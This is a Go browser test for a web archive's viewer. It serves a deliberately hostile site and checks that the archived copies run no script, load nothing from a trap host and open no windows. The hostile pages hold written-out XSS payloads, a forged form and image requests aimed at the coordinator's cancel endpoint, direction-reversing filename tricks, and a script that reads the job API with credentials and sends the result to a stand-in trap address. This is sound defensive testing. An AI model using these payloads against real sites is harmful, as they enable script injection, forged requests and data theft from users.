package main

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"

	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
)

// turns are the marks that turn the direction of text.
const turns = "\u202e\u2066\u200f\u061c"

// longName is as long as a text of a hostile page, in characters.
const longName = 10_000_000

// hostilePages are what a hostile site serves, by their paths. COORDINATOR and TRAP stand for addresses; every script in them that runs, and
// everything that a browser loads of them, asks the trap.
var hostilePages = map[string]string{
	"scripts": `<title>&lt;script&gt;fetch("TRAP/title")&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;</title>
		<script>document.title = 'ran'; fetch('TRAP/script'); alert('ran'); fetch('COORDINATOR/api/v1/jobs', {credentials: 'include'}).then(r => r.text()).then(v => fetch('TRAP/leak?' + v));
		navigator.serviceWorker.register('/worker.js'); try { top.location = 'TRAP/top'; } catch (e) {} try { opener.location = 'TRAP/opener'; } catch (e) {} localStorage.x = 1; parent.postMessage('x', '*');</script>
		<script src="TRAP/src.js"></script><script type=module>import 'TRAP/module.js'</script><noscript><img src=TRAP/noscript></noscript>
		<body onload="fetch('TRAP/onload')"><img src=x onerror="fetch('TRAP/onerror')"><svg onload="fetch('TRAP/svgload')"><script>fetch('TRAP/svgscript')</script></svg>
		<input autofocus onfocus="fetch('TRAP/focus')"><details open ontoggle="fetch('TRAP/toggle')">x</details><iframe srcdoc="<script>fetch('TRAP/srcdoc')</script>"></iframe><iframe src="data:text/html,<script>fetch('TRAP/data')</script>"></iframe><iframe src="javascript:fetch('TRAP/js')"></iframe>`,
	"loads": `<title>"><base href=TRAP/><link rel=stylesheet href=TRAP/t></title><base href="TRAP/base/" target=_top>
		<meta http-equiv=refresh content="0;url=TRAP/refresh"><meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>
		<link rel=stylesheet href="TRAP/css"><link rel="preconnect dns-prefetch" href="TRAP"><link rel=prefetch href="TRAP/prefetch"><link rel=preload as=image href="TRAP/preload"><link rel=prerender href="TRAP/prerender"><link rel=modulepreload href="TRAP/modulepreload"><link rel=icon href="TRAP/icon"><link rel=manifest href="TRAP/manifest">
		<style>@import "TRAP/import"; body{background:url(TRAP/background)} @font-face{font-family:q;src:url(TRAP/font)} p{font-family:q;background:u\72l(TRAP/escaped);list-style:image-set("TRAP/set" 1x)} a{cursor:url(TRAP/cursor),auto;filter:url(TRAP/filter#f)}</style>
		<p style="background:url('TRAP/inline')">text <img src="TRAP/img" srcset="TRAP/srcset 2x" lowsrc="TRAP/lowsrc"><img src="/relative"><img src="\\TRAPHOST\slashes"><picture><source srcset="TRAP/source"><img></picture>
		<iframe src="TRAP/frame"></iframe><iframe src="COORDINATOR/#/jobs"></iframe><object data="TRAP/object"></object><embed src="TRAP/embed"><video src="TRAP/video" poster="TRAP/poster" autoplay><track src="TRAP/track" default></video><audio src="TRAP/audio" autoplay></audio>
		<svg><image href="TRAP/svgimage"/><use href="TRAP/use#a"/><feImage href="TRAP/fe"/></svg><table background="TRAP/table"><tr><td>x</table><input type=image src="TRAP/input"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='TRAP/datasvg'/></svg>">
		<img src="COORDINATOR/api/v1/jobs/1/cancel"><body background="TRAP/body"><portal src="TRAP/portal"></portal><applet code="TRAP/applet"></applet>`,
	"more": `<title>more ways to load something</title>
		<style>@import url("TRAP/import2") screen; @import 'TRAP/import3' layer(x) supports(display:grid); a::before{content:url(TRAP/content)} @page{background:url(TRAP/page)} @media print{body{background:url(TRAP/print)}}
		p{mask:url(TRAP/mask);-webkit-mask-image:-webkit-image-set(url(TRAP/wset) 1x);background:image-set(url("TRAP/set2") 1x,"TRAP/set3" 2x);border-image:url(TRAP/border) 1;clip-path:url(TRAP/clip#c);shape-outside:url(TRAP/shape);offset-path:url(TRAP/offset#p)}
		div{background:-webkit-cross-fade(url(TRAP/fade),url(TRAP/fade2),50%);--x:url(TRAP/var);list-style-image:var(--x)} @font-face{font-family:r;src:local(x),url("TRAP/font2") format("woff2")} @font-face{font-family:s;src:url(data:font/woff2;base64,AAAA),url(TRAP/font3)} div{font-family:r,s}</style>
		<link rel=preload as=image imagesrcset="TRAP/imagesrcset 1x"><link rel="alternate stylesheet" title=x href="TRAP/alternate"><link rel=apple-touch-icon href="TRAP/touch"><link rel=mask-icon href="TRAP/maskicon"><link rel=search type=application/opensearchdescription+xml href="TRAP/opensearch"><link rel=compression-dictionary href="TRAP/dictionary"><link rel=dns-prefetch href="//TRAPHOST">
		<script type=speculationrules>{"prefetch":[{"source":"list","urls":["TRAP/speculate"]}],"prerender":[{"source":"document","eagerness":"immediate"}]}</script><script type=importmap>{"imports":{"x":"TRAP/importmap"}}</script><meta http-equiv=Content-Security-Policy content="report-uri TRAP/report"><meta http-equiv="Refresh" content='1; URL="TRAP/refresh2"'>
		<div>text <img src=x srcset="TRAP/srcsetw 100w" sizes=100vw><picture><source media=all srcset="TRAP/source2,TRAP/source3 2x"><img src="data:,"></picture><video autoplay><source src="TRAP/videosource"></video><object type=image/svg+xml data="TRAP/object2"><param name=src value="TRAP/param"></object><embed type=text/html src="TRAP/embed2"></div>
		<svg><style>@import 'TRAP/svgimport'; rect{fill:url(TRAP/fill#f)}</style><script href="TRAP/svgscripthref"/><use xlink:href="TRAP/usex#a"/><image xlink:href="TRAP/imagex"/><a href="/top"><set attributeName=href to="javascript:fetch('TRAP/set')"/><animate attributeName=href values="TRAP/animate"/><text>x</text></a><filter><feImage xlink:href="TRAP/fex"/></filter><linearGradient href="TRAP/gradient#g"/><rect width=9 height=9 /><text><textPath href="TRAP/textpath#t">x</textPath></text><foreignObject width=9 height=9><iframe src="TRAP/foreign2"></iframe></foreignObject></svg>
		<div><template shadowrootmode=open><style>@import 'TRAP/shadow';</style><img src="TRAP/shadowimage"><script>fetch('TRAP/shadowscript')</script></template></div><math href="TRAP/math"><mtext>x</mtext></math><bgsound src="TRAP/bgsound"><iframe srcdoc="<img src='TRAP/srcdocimage'><meta http-equiv=refresh content='0;url=TRAP/srcdocrefresh'>"></iframe><iframe src="blob:TRAP/blob"></iframe><fencedframe src="TRAP/fenced"></fencedframe>
		<p style="background:url(&quot;TRAP/entity&quot;)"><p style="background:\75 rl(TRAP/escape2)"><p style="background:url(//TRAPHOST/slashes2)"><img src="//TRAPHOST/relative2"><img src="ht&#10;tp://TRAPHOST/newline"><img src="&#1;TRAP/control"><img src="http:\\\\TRAPHOST/back"><noscript><link rel=stylesheet href="TRAP/noscriptcss"><meta http-equiv=refresh content="0;url=TRAP/noscriptrefresh"></noscript><plaintext>`,
	"top":      `<title>` + turns + `gpj.exe</title><a href="COORDINATOR/#/log" target=_top class=all>top</a>`,
	"blank":    `<title>blank</title><a href="TRAP/blank" target=_blank rel=opener class=all>another window</a>`,
	"ping":     `<title>ping</title><a href="/loads" ping="TRAP/ping COORDINATOR/api/v1/jobs/1/cancel" attributionsrc="TRAP/attribution" class=all>ping</a>`,
	"form":     `<title>form</title><form action="COORDINATOR/api/v1/jobs/1/cancel" method=post target=_top><button formaction="TRAP/formaction" class=all>send</button></form>`,
	"script":   `<title>a link that is a script</title><a href="javascript:fetch('TRAP/jslink')" onclick="fetch('TRAP/click')" class=all>run</a>`,
	"download": `<title>download</title><a href="TRAP/download" download class=all>have it</a>`,
	"long":     `<title>` + turns + `<b>LONG</title><p>LONG<a href="/long?LONG2000">LONG2000</a>`,
}

// hostileTypes are types of pages that are no HTML.
var hostileTypes = map[string]struct{ kind, body string }{
	"picture.svg": {"image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900" onload="fetch('TRAP/onload')"><script>fetch('TRAP/svgdoc')</script><a href="javascript:fetch('TRAP/svglink')"><rect width="900" height="900" fill="red"/></a><image href="TRAP/svgdocimage"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="TRAP/foreign"/></foreignObject></svg>`},
	"page.xhtml":  {"application/xhtml+xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="TRAP/xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>fetch('TRAP/xhtml')</script><img src="TRAP/xhtmlimage"/></body></html>`},
	"tree.xml":    {"application/xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="TRAP/xsl2"?><html xmlns="http://www.w3.org/1999/xhtml"><script>fetch('TRAP/xml')</script></html>`},
}

// worstPages are those that the short walk opens.
var worstPages = []string{"scripts", "loads", "more", "top", "form", "long", "picture.svg"}

// serveHostile serves a site that attacks who looks at its archive.
func serveHostile(coordinator, lure string) (string, error) {
	write := strings.NewReplacer("COORDINATOR", "http://"+coordinator, "TRAPHOST", lure, "TRAP", "http://"+lure, "LONG2000", strings.Repeat("o", 2000), "LONG", strings.Repeat("o", longName))
	return serveOn(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name := strings.TrimPrefix(r.URL.Path, "/")
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Link", "<http://"+lure+"/link>; rel=preload; as=image")
		w.Header().Set("Refresh", "1;url=http://"+lure+"/refreshed")
		w.Header().Set("Set-Cookie", "argosy_"+portOf(coordinator)+"=evil; Path=/")
		w.Header().Set("Clear-Site-Data", `"*"`)
		w.Header().Set("Content-Security-Policy", "default-src *; report-uri http://"+lure+"/policy")
		w.Header().Set("Reporting-Endpoints", `default="http://`+lure+`/reports"`)
		w.Header().Set("Report-To", `{"group":"default","max_age":99,"endpoints":[{"url":"http://`+lure+`/reported"}]}`)
		w.Header().Set("NEL", `{"report_to":"default","max_age":99,"success_fraction":1}`)
		w.Header().Set("SourceMap", "http://"+lure+"/map")
		w.Header().Set("Speculation-Rules", `"http://`+lure+`/rules"`)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		switch of, other := hostileTypes[name]; {
		case other:
			w.Header().Set("Content-Type", of.kind)
			_, _ = write.WriteString(w, of.body)
		case hostilePages[name] != "":
			_, _ = write.WriteString(w, `<!DOCTYPE html><meta charset=utf-8><style>.all{position:fixed;inset:0;width:100%;height:100%;background:#fcc}</style>`+hostilePages[name])
		case name == "":
			for page := range hostilePages {
				fmt.Fprintf(w, `<a href="/%s">%s&lt;img src=x onerror=alert(1)&gt;</a> `, page, turns)
			}
			for page := range hostileTypes {
				fmt.Fprintf(w, `<a href="/%s">x</a> `, page)
			}
			_, _ = write.WriteString(w, `<a href="/%3Cscript%3Ealert(1)%3C/script%3E?`+turns+`">x</a><title><script>fetch('TRAP/root')</script></title>`)
		default:
			http.NotFound(w, r)
		}
	}))
}

// hostile crawls a hostile site, and looks at all that the pages show of it.
func (k *walker) hostile(ctx context.Context, g *gate, lure *trap) error {
	host, err := serveHostile(g.host, lure.host)
	if err != nil {
		return err
	}
	one, end, err := k.byGate(ctx, g)
	if err != nil {
		return err
	}
	defer end()
	name := `<img src=x onerror=alert(1)><script>fetch("http://` + lure.host + `/name")</script>`
	send := func(name string) (string, error) {
		job := fmt.Sprintf("{name: %s, seeds: ['http://%s/'], limits: {delay: 0}, fetch: {resources: true}}", quote(name), host)
		return js[string](one, `fetch('/api/v1/jobs', {method: 'POST', headers: {'Argosy-Page': localStorage.getItem('argosy.page'), 'Content-Type': 'application/yaml'}, body: `+quote(job)+`}).then(r => r.json()).then(v => String(v.job || v.detail))`)
	}
	for _, bad := range []string{strings.Repeat("o", longName), turns} {
		if said, err := send(bad); err != nil || !strings.Contains(said, "name: ") || len(said) > 1000 {
			return errors.Join(err, fmt.Errorf("a job with the name %.100q: %.100s", bad, said))
		}
	}
	said, err := send(name)
	if err != nil {
		return err
	}
	id, err := strconv.Atoi(said)
	if err != nil {
		return fmt.Errorf("a job with a hostile name: %s", said)
	}
	if err := until(one, fmt.Sprintf(`fetch('/api/v1/jobs/%d', {headers: {'Argosy-Page': localStorage.getItem('argosy.page')}}).then(r => r.json()).then(v => v.state === 'done')`, id)); err != nil {
		return err
	}
	g.strange()
	for _, page := range []string{"overview", "jobs", "tasks", "nodes", "sites", "measurements", "pages", "tree", "log"} {
		if err := k.harmless(one, fmt.Sprintf("#/%s?job=%d", page, id)); err != nil {
			return err
		}
	}
	if err := k.hostileCopies(one, id, host); err != nil {
		return err
	}
	if seen := lure.caught(); len(seen) > 0 {
		return fmt.Errorf("something was asked of the trap: %s", strings.Join(seen, ", "))
	}
	copies := 0
	for _, a := range g.strange() {
		if a.path == "/favicon.ico" { // browsers want one of every window
			continue
		}
		if copies++; !strings.HasPrefix(a.path, "/archive/") || a.cookie && a.method != http.MethodGet {
			return fmt.Errorf("an archived page has sent %s %s, and got %d", a.method, a.path, a.status)
		}
	}
	if copies == 0 {
		return errors.New("no archived page was asked for")
	}
	return nil
}

// harmless looks at a page that shows what sites have sent.
func (k *walker) harmless(ctx context.Context, hash string) error {
	if err := visit(ctx, hash); err != nil {
		return err
	}
	return k.isHarmless(ctx, hash)
}

// isHarmless looks at the page that is open.
func (k *walker) isHarmless(ctx context.Context, hash string) error {
	if err := until(ctx, "document.querySelector('#content .page') && !document.querySelector('#content .wrong')"); err != nil {
		return fmt.Errorf("%s: %w", hash, err)
	}
	found, err := js[string](ctx, `(() => {
		for (const e of document.querySelectorAll('*')) {
			if ([...e.attributes].some(a => a.name.startsWith('on')) || /^(script|img|object|embed|base|style|meta|link)$/i.test(e.tagName) && e.closest('body')) return e.outerHTML.slice(0, 200);
		}
		if (/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(document.body.textContent)) return 'marks that turn the direction of text';
		if (document.documentElement.scrollWidth > innerWidth) return document.documentElement.scrollWidth + ' pixels wide';
		if (document.body.textContent.length > 1e6) return document.body.textContent.length + ' characters';
		return document.title.includes('ran') ? document.title : '';
	})()`)
	if err == nil && found != "" {
		err = fmt.Errorf("%s has %s", hash, found)
	}
	return err
}

// hostileCopies opens each page of a hostile site as it is archived, within the page of it and in a window of its own, and clicks into it.
func (k *walker) hostileCopies(ctx context.Context, job int, host string) error {
	// A list that is asked for again is kept for up to a minute on a busy machine: each question has another limit.
	had := fmt.Sprintf(`fetch('/api/v1/jobs/%d/pages?class=2&limit=' + (101 + Math.floor(Math.random() * 800)), {headers: {'Argosy-Page': localStorage.getItem('argosy.page')}}).then(r => r.json()).then(v => v.pages.filter(p => p.status === 200 && p.site === '%s').map(p => [p.url, p.key]))`, job, host)
	if err := until(ctx, fmt.Sprintf("%s.then(all => all.length >= %d)", had, len(hostilePages))); err != nil { // the ledger may lag behind the job's state
		return err
	}
	all, err := js[[][2]string](ctx, had)
	if err != nil {
		return err
	}
	for _, p := range all {
		if _, name, _ := strings.Cut(strings.TrimPrefix(p[0], "http://"), "/"); !k.full && !slices.Contains(worstPages, name) {
			continue
		}
		k.where = "the archived page " + p[0]
		hash := fmt.Sprintf("#/page?job=%d&key=%s", job, p[1])
		if err := k.harmless(ctx, hash); err != nil {
			return err
		}
		for _, tab := range []string{"Text", "Heads", "Archived page"} {
			if err := click(ctx, "[role=tab]", tab); err != nil {
				return err
			}
			if err := k.isHarmless(ctx, hash); err != nil {
				return err
			}
		}
		at, err := js[[]float64](ctx, "new Promise(done => { const f = document.querySelector('iframe'); f.scrollIntoView({block: 'center'}); setTimeout(() => { const r = f.getBoundingClientRect(); done([r.left + r.width / 2, r.top + r.height / 2]); }, 200); })")
		if err != nil {
			return err
		}
		src, err := js[string](ctx, "document.querySelector('iframe').src")
		if err != nil {
			return err
		}
		if err := chromedp.Run(ctx, chromedp.MouseClickXY(at[0], at[1])); err != nil {
			return err
		}
		if err := k.isHarmless(ctx, hash); err != nil {
			return err
		}
		if err := k.alone(ctx, src); err != nil {
			return err
		}
	}
	left, err := js[string](ctx, "navigator.serviceWorker.getRegistrations().then(all => all.length ? 'a worker serves our pages' : localStorage.x ? 'a page wrote into our storage' : '')")
	if err == nil && left != "" {
		err = errors.New(left)
	}
	return err
}

// alone opens the address of an archived page in a window of its own and clicks into it: no other window opens, and it goes nowhere but to other copies.
func (k *walker) alone(ctx context.Context, src string) error {
	before, err := chromedp.Targets(ctx)
	if err != nil {
		return err
	}
	w, end, err := another(ctx, src)
	if err != nil {
		return err
	}
	defer end()
	if err := until(w, "location.href !== 'about:blank' && document.readyState === 'complete'"); err != nil {
		return err
	}
	if err := chromedp.Run(w, chromedp.MouseClickXY(200, 200), chromedp.Sleep(k.settle)); err != nil {
		return err
	}
	after, err := chromedp.Targets(ctx)
	if err != nil {
		return err
	}
	windows := func(all []*target.Info) (n int) {
		for _, t := range all {
			if t.Type == "page" {
				n++
			}
		}
		return n
	}
	if windows(after) > windows(before)+1 {
		return errors.New("it opened a window")
	}
	var at, title string
	if err := chromedp.Run(w, chromedp.Location(&at), chromedp.Title(&title)); err != nil {
		return err
	}
	if !strings.Contains(at, "/archive/") || title == "ran" {
		return fmt.Errorf("it went to %s, %q", at, title)
	}
	return nil
}
